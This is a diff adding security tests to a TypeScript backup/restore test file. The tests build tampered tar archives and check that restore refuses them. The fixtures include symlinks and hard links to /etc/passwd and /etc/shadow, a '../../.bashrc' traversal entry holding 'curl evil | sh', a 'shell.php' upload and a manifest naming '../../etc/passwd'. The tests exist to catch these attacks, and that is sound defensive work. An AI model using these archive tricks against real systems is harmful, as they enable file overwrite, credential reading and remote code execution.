@@ -1,6 +1,16 @@
 import { count } from "drizzle-orm";
 import { execFileSync } from "node:child_process";
-import { mkdtempSync, readFileSync, readdirSync, rmSync, statSync, writeFileSync, mkdirSync } from "node:fs";
+import {
+  existsSync,
+  mkdtempSync,
+  readFileSync,
+  readdirSync,
+  rmSync,
+  statSync,
+  symlinkSync,
+  writeFileSync,
+  mkdirSync,
+} from "node:fs";
 import { gunzipSync } from "node:zlib";
 import os from "node:os";
 import path from "node:path";
@@ -8,7 +18,7 @@ import { afterAll, describe, expect, it } from "vitest";
 import { createTestDatabase, TEST_DATABASE_KINDS } from "../../../tests/support/test-database";
 import { createUser } from "@/server/auth/users";
 import { createLead } from "@/server/leads/store";
-import { createBackup, restoreBackup } from "./backup";
+import { createBackup, InvalidBackupError, restoreBackup } from "./backup";
 import { serveBackupRequests } from "./backup-requests";
 import { openDatabase, type Connection } from "./client";
 import { runMigrations } from "./migrate";
@@ -149,6 +159,132 @@ describe("db:backup and db:restore with the embedded database", () => {
     await expect(restoreBackup({ kind: "pglite", dataDir: stopped.dataDir }, stopped.dataDir, file)).rejects.toThrow(
       /already holds a database/,
     );
+  });
+});
+
+/** A tar archive written member by member (ustar headers), to make the backups no db:backup makes. */
+type Member = { name: string; type?: "0" | "1" | "2" | "3" | "5"; content?: Buffer | string; link?: string };
+function tarOf(members: Member[]): Buffer {
+  const blocks: Buffer[] = [];
+  for (const member of members) {
+    const content = Buffer.from(member.content ?? "");
+    const header = Buffer.alloc(512);
+    header.write(member.name, 0, 100, "utf8");
+    header.write("0000644\0", 100);
+    header.write("0000000\0", 108);
+    header.write("0000000\0", 116);
+    header.write(`${content.length.toString(8).padStart(11, "0")}\0`, 124);
+    header.write("00000000000\0", 136);
+    header.write(member.type ?? "0", 156);
+    header.write(member.link ?? "", 157, 100, "utf8");
+    header.write("ustar\0" + "00", 257);
+    header.write("        ", 148);
+    let sum = 0;
+    for (const byte of header) sum += byte;
+    header.write(`${sum.toString(8).padStart(6, "0")}\0 `, 148);
+    blocks.push(header, content, Buffer.alloc((512 - (content.length % 512)) % 512));
+  }
+  return Buffer.concat([...blocks, Buffer.alloc(1024)]);
+}
+
+describe("db:restore of a backup no db:backup made", () => {
+  const image = "00000000-0000-4000-8000-000000000001.webp";
+  let genuine: string;
+  let manifest: string;
+  let database: Buffer;
+
+  it("restores the genuine backup, made with GNU tar (so the checks read its archives as they are)", async () => {
+    const source = await site("genuine-source");
+    await source.connection.close();
+    genuine = path.join(root, "backups", "genuine.tar");
+    await createBackup({ kind: "pglite", dataDir: source.dataDir }, source.dataDir, genuine);
+    const folder = unpacked(genuine);
+    manifest = readFileSync(path.join(folder, "manifest.json"), "utf8");
+    database = readFileSync(path.join(folder, "database.tar.gz"));
+    const restored = await restoredInto(genuine, "genuine-restored");
+    expect(readdirSync(path.join(restored.dataDir, "uploads"))).toEqual([image]);
+  });
+
+  const tampered = (name: string, members: Member[]) => {
+    const file = path.join(root, "backups", `${name}.tar`);
+    writeFileSync(file, tarOf(members));
+    return file;
+  };
+  const base = () => [
+    { name: "manifest.json", content: manifest },
+    { name: "database.tar.gz", content: database },
+    { name: "uploads/", type: "5" as const },
+  ];
+
+  it.each([
+    [
+      "a symbolic link to /etc/passwd named as an upload",
+      [{ name: `uploads/${image}`, type: "2" as const, link: "/etc/passwd" }],
+      `uploads/${image}: a symbolic link to /etc/passwd`,
+    ],
+    [
+      "a hard link to a file outside",
+      [{ name: `uploads/${image}`, type: "1" as const, link: "/etc/shadow" }],
+      `uploads/${image}: a hard link to /etc/shadow`,
+    ],
+    [
+      "a name outside the uploads folder",
+      [
+        { name: `uploads/${image}`, content: "image" },
+        { name: "uploads/../../.bashrc", content: "curl evil | sh" },
+      ],
+      "uploads/../../.bashrc: not an uploaded image's name",
+    ],
+    [
+      "a file named as no upload is",
+      [{ name: "uploads/shell.php", content: "<?php" }],
+      "uploads/shell.php: not an uploaded image's name",
+    ],
+    ["a device", [{ name: `uploads/${image}`, type: "3" as const }], `uploads/${image}: a special file (tar type "3")`],
+  ])("refuses %s, saying what it found, before anything is changed", async (name, extra, found) => {
+    const file = tampered(name.replace(/\W+/g, "-"), [...base(), ...extra]);
+    const target = path.join(root, `target-${name.replace(/\W+/g, "-")}`);
+    const error = await restoreBackup({ kind: "pglite", dataDir: target }, target, file).catch(
+      (failure: unknown) => failure,
+    );
+    expect(error).toBeInstanceOf(InvalidBackupError);
+    expect(String(error)).toContain("is not a backup of this site, so nothing was restored");
+    expect(String(error)).toContain(found);
+    // Nothing was written: no database folder, no uploads.
+    expect(existsSync(path.join(target, "pglite"))).toBe(false);
+    expect(existsSync(path.join(target, "uploads"))).toBe(false);
+  });
+
+  it("refuses a manifest that does not match the archive, or an archive that is not a backup", async () => {
+    const target = path.join(root, "target-manifest");
+    const counted = tampered("miscounted", [...base()]);
+    await expect(restoreBackup({ kind: "pglite", dataDir: target }, target, counted)).rejects.toThrow(
+      "the manifest counts 1 uploaded images, the archive holds 0",
+    );
+    const renamed = tampered("renamed-database", [
+      { name: "manifest.json", content: JSON.stringify({ ...JSON.parse(manifest), database: "../../etc/passwd" }) },
+      { name: "database.tar.gz", content: database },
+    ]);
+    await expect(restoreBackup({ kind: "pglite", dataDir: target }, target, renamed)).rejects.toThrow(
+      'its manifest names the database "../../etc/passwd"',
+    );
+    const notTar = path.join(root, "backups", "not-a-tar.tar");
+    writeFileSync(notTar, "just some text, not an archive".repeat(40));
+    await expect(restoreBackup({ kind: "pglite", dataDir: target }, target, notTar)).rejects.toThrow(
+      InvalidBackupError,
+    );
+    expect(existsSync(target)).toBe(false);
+  });
+
+  it("leaves out of a backup what no restore would take (a link or a stray file in uploads)", async () => {
+    const source = await site("stray-source");
+    await source.connection.close();
+    symlinkSync("/etc/passwd", path.join(source.dataDir, "uploads", "00000000-0000-4000-8000-0000000000ff.webp"));
+    writeFileSync(path.join(source.dataDir, "uploads", "notes.txt"), "not an image");
+    const file = path.join(root, "backups", "stray.tar");
+    expect((await createBackup({ kind: "pglite", dataDir: source.dataDir }, source.dataDir, file)).uploads).toBe(1);
+    const restored = await restoredInto(file, "stray-restored");
+    expect(readdirSync(path.join(restored.dataDir, "uploads"))).toEqual([image]);
   });
 });
 
